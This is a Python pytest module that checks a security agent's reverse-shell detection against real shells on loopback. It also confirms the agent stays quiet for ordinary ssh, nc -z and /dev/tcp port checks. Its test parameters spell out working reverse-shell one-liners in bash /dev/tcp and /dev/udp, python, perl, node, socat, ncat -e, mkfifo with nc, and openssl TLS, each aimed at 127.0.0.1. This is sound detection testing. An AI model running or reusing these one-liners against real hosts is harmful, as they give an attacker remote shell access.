# SPDX-License-Identifier: Apache-2.0
"""reverse_shell.* against real shells on loopback: bash /dev/tcp and /dev/udp, interpreter one-liners, ncat -e,
shells relayed by socat, python pty.spawn, node and openssl (TLS), and everyday shells that must stay quiet.
One agent for the module."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from tests.kernel.e2e import Agent, Listener, Sshd, UnderSh, free_port, self_signed, wait_port

pytestmark = pytest.mark.kernel

SOCKET_STDIO, RELAY = "reverse_shell.socket_stdio", "reverse_shell.relay"


def _family(pid: int) -> set[int]:
    """``pid`` and its descendants now (the shell a one-liner starts is a child of the tool UnderSh ran)."""
    found, frontier = {pid}, [pid]
    while frontier:
        parent = frontier.pop()
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    stat = Path(f"/proc/{entry}/stat").read_text()
                except OSError:
                    continue
                if int(stat.rsplit(")", 1)[1].split()[1]) == parent and int(entry) not in found:
                    found.add(int(entry))
                    frontier.append(int(entry))
    return found


def _alert(agent: Agent, rule: str, run: UnderSh, timeout: float = 8.0) -> dict[str, Any]:
    """The alert of ``rule`` on the tool's process or one it started; its lineage leads to the test's sh."""
    found = agent.wait_alert(
        lambda a: a["rule"] == rule and run.sh.pid in [p["pid"] for p in a["ancestors"]] + [a["process"]["pid"]],
        timeout,
    )
    assert found is not None, agent.log_path.read_text()[-3000:]
    alert = found[0]
    assert alert["severity"] == "critical", alert
    pids = [alert["process"]["pid"], *(p["pid"] for p in alert["ancestors"])]
    assert run.sh.pid in pids and os.getpid() in pids  # the test's sh, and this test above it
    return alert


def _reverse(agent: Agent, argv: list[str], rule: str = SOCKET_STDIO) -> dict[str, Any]:
    listener = Listener(greeting=b"id\n")  # a command, as the attacker would type: some shells act on it only
    run = UnderSh([a.replace("{port}", str(listener.port)) for a in argv])
    try:
        assert listener.accepted.wait(8), "the shell never connected"
        return _alert(agent, rule, run)
    finally:
        listener.close()
        run.stop()


PY_DUP = (
    "import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',{port}));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
)
PERL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in({port},inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");};'
)


@pytest.mark.parametrize(
    ("argv", "shell"),
    [
        (["bash", "--norc", "-c", "bash --norc -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], "bash"),
        (
            ["bash", "--norc", "-c", "exec 5<>/dev/tcp/127.0.0.1/{port}; cat <&5 | while read l; do $l 2>&5 >&5; done"],
            "bash",
        ),
        (["python3", "-c", PY_DUP], "python3"),
        (["perl", "-e", PERL], "perl"),
    ],
    ids=["bash-dev-tcp", "bash-exec-fd", "python-dup2", "perl-open"],
)
def test_socket_on_a_shells_stdio_is_critical(agent: Agent, argv: list[str], shell: str) -> None:
    """A shell or interpreter with the connection on its stdin and output is named, with the remote address."""
    alert = _reverse(agent, argv)
    assert alert["network"]["daddr"] == "127.0.0.1" and alert["network"]["proto"] == "tcp"
    # the interpreter's own dups join the directions, or else the exec of the shell it runs: both are right
    assert alert["evidence"]["shell"].startswith(shell) or alert["evidence"]["shell"] == "dash"


def test_bash_dev_udp_is_critical(agent: Agent) -> None:
    """sh -i >& /dev/udp/h/p 0>&1: a connected UDP socket on a shell's stdio is a reverse shell too."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        port = server.getsockname()[1]
        run = UnderSh(["bash", "--norc", "-c", f"bash --norc -i >& /dev/udp/127.0.0.1/{port} 0>&1"])
        try:
            alert = _alert(agent, SOCKET_STDIO, run)
            assert (alert["network"]["proto"], alert["network"]["dport"]) == ("udp", port)
        finally:
            run.stop()


@pytest.mark.parametrize(
    ("argv", "link", "holder"),
    [
        (["socat", "TCP:127.0.0.1:{port}", "EXEC:bash --norc -li,pty,stderr,setsid"], "pty", "socat"),
        (
            [
                "python3",
                "-c",
                "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));"
                "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
            ],
            "pty",
            "python3",
        ),
        (
            [
                "node",
                "-e",
                "const sh=require('child_process').spawn('/bin/sh',[]);"
                "const c=require('net').connect({port},'127.0.0.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);"
                "sh.stderr.pipe(c)});",
            ],
            "unix",
            "node",
        ),
        (["ncat", "-e", "/bin/sh", "127.0.0.1", "{port}"], "pipe", "ncat"),  # ncat relays -e through pipes
        (
            ["sh", "-c", "f=$(mktemp -u); mkfifo $f; cat $f | /bin/sh -i 2>&1 | nc 127.0.0.1 {port} > $f; rm $f"],
            "pipe",
            "nc",
        ),
    ],
    ids=["socat-pty", "python-pty-spawn", "node-child-process", "ncat-e", "mkfifo-nc"],
)
def test_shell_relayed_by_its_helper_is_critical(agent: Agent, argv: list[str], link: str | None, holder: str) -> None:
    """A shell whose stdio leads to a helper holding the connection is named with the helper."""
    if shutil.which(argv[0]) is None:
        pytest.skip(f"{argv[0]} is not installed")
    alert = _reverse(agent, argv, RELAY)
    assert alert["evidence"]["holder"]["comm"] == holder
    if link:
        assert alert["evidence"]["link"] == link


def test_tls_wrapped_shells_are_critical(agent: Agent, workdir: Path) -> None:
    """mkfifo + `sh -i <f | openssl s_client >f` and `ncat --ssl -e /bin/sh` to a TLS server: relays, critical."""
    cert, key = self_signed(workdir)
    for argv, holder in (
        (
            [
                f"f={workdir}/fifo; rm -f $f; mkfifo $f; /bin/sh -i < $f 2>&1 | openssl s_client -quiet "
                "-connect 127.0.0.1:{port} > $f"
            ],
            "openssl",
        ),
        (["ncat --ssl -e /bin/sh 127.0.0.1 {port}"], "ncat"),
    ):
        port = free_port()
        server = subprocess.Popen(
            ["openssl", "s_server", "-quiet", "-accept", f"127.0.0.1:{port}", "-key", str(key), "-cert", str(cert)],
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        try:
            wait_port(port)
            run = UnderSh(["sh", "-c", argv[0].replace("{port}", str(port))])
            try:
                alert = _alert(agent, RELAY, run)
                assert alert["evidence"]["holder"]["comm"] == holder and alert["network"]["dport"] == port
            finally:
                run.stop()
        finally:
            server.kill()
            server.wait()
            assert server.stdin is not None
            server.stdin.close()


def test_everyday_shells_and_sockets_are_quiet(agent: Agent, sshd: Sshd) -> None:
    """sshd login and command shells, ssh/scp pipes, /dev/tcp port checks and nc -z raise no reverse_shell alert."""
    listener = Listener()
    pids: list[int] = []
    try:
        for argv in (
            sshd.client_argv("-tt", "echo hello; sleep 0.5"),  # a login shell on a pty sshd holds
            sshd.client_argv("sh -c 'cat /etc/hostname; sleep 0.5' | sh"),  # a command shell on sshd's pipes
            ["bash", "--norc", "-c", f"</dev/tcp/127.0.0.1/{listener.port} && echo open"],
            ["bash", "--norc", "-c", f"echo ping > /dev/tcp/127.0.0.1/{listener.port}"],
            ["nc", "-z", "127.0.0.1", str(listener.port)],
            ["sh", "-c", f"echo hi | socat - TCP:127.0.0.1:{listener.port}"],
        ):
            proc = subprocess.Popen(
                argv, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
            )
            proc.wait(timeout=20)
            pids.append(proc.pid)
        time.sleep(1.5)
    finally:
        listener.close()
    noisy = [
        a
        for a in agent.alerts()
        if a["category"] == "reverse_shell" and set(pids) & {a["process"]["pid"], *(p["pid"] for p in a["ancestors"])}
    ]
    assert noisy == []
    assert sshd.port  # the sshd really served: the client commands above returned


def test_a_shell_reading_its_commands_from_a_connection_is_high(agent: Agent) -> None:
    """`bash < /dev/tcp/h/p` (a script fed by the network, output kept local) is socket_stdio, high, on the inner
    bash; the outer bash's own redirection is no alert."""
    listener = Listener(greeting=b"id\n")
    run = UnderSh(["bash", "--norc", "-c", f"bash --norc < /dev/tcp/127.0.0.1/{listener.port}; true"])
    try:
        found = agent.wait_alert(
            lambda a: a["rule"] == SOCKET_STDIO and run.pid in [p["pid"] for p in a["ancestors"]], 8
        )
        assert found is not None, agent.log_path.read_text()[-3000:]
        alert = found[0]
        assert alert["severity"] == "high" and alert["evidence"]["how"] == "exec"
        assert alert["process"]["comm"] == "bash" and alert["ancestors"][0]["pid"] == run.pid
        assert not [a for a in agent.alerts() if a["rule"] == SOCKET_STDIO and a["process"]["pid"] == run.pid]
    finally:
        listener.close()
        run.stop()


@pytest.mark.parametrize("stdio", ["pipes", "socketpair"])
def test_a_shell_inheriting_its_connected_parents_stdio_is_no_relay(agent: Agent, stdio: str) -> None:
    """A program holding a connection runs `sh -c` on its own stdio (pipes, or a socketpair as journald's stream
    is): the parent holds the shell's end itself, not the other one, so no relay."""
    listener = Listener()
    code = (
        f"import socket,subprocess;s=socket.create_connection(('127.0.0.1',{listener.port}));"
        "subprocess.run(['/bin/sh','-c','read x; echo $x; sleep 1'])"
    )
    if stdio == "pipes":
        proc = subprocess.Popen([sys.executable, "-c", code], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        ours = None
    else:
        ours, theirs = socket.socketpair()
        proc = subprocess.Popen([sys.executable, "-c", code], stdin=theirs, stdout=theirs)
        theirs.close()
    try:
        if proc.stdin is not None:
            proc.stdin.write(b"hello\n")
            proc.stdin.flush()
        else:
            assert ours is not None
            ours.sendall(b"hello\n")
        assert proc.wait(timeout=15) == 0
        time.sleep(1.5)
        pids = _family(proc.pid) | {proc.pid}
        assert [a for a in agent.alerts() if a["category"] == "reverse_shell" and a["process"]["pid"] in pids] == []
        assert [a for a in agent.alerts() if a["category"] == "reverse_shell" and proc.pid in
                [p["pid"] for p in a["ancestors"]]] == []  # fmt: skip
    finally:
        for stream in (proc.stdin, proc.stdout):
            if stream is not None:
                stream.close()
        if ours is not None:
            ours.close()
        listener.close()
